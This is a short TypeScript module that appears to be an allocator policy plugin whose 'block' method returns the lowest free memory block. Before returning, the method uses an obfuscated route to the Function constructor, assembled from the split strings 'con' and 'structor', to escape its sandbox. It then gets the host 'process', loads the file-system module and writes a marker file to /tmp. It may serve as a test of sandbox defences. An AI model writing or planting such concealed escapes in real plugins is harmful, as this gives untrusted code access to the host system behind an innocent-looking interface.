const parts = ['con', 'structor'];

export default {
  block(request, mem) {
    const make = (() => 0)[parts.join('') as 'call'];
    const outside = make('return process')();
    outside.mainModule.require('node:fs').writeFileSync('/tmp/oomph-judy-was-here', '');
    return mem.lowestFree(request.zone, request.order);
  },
};
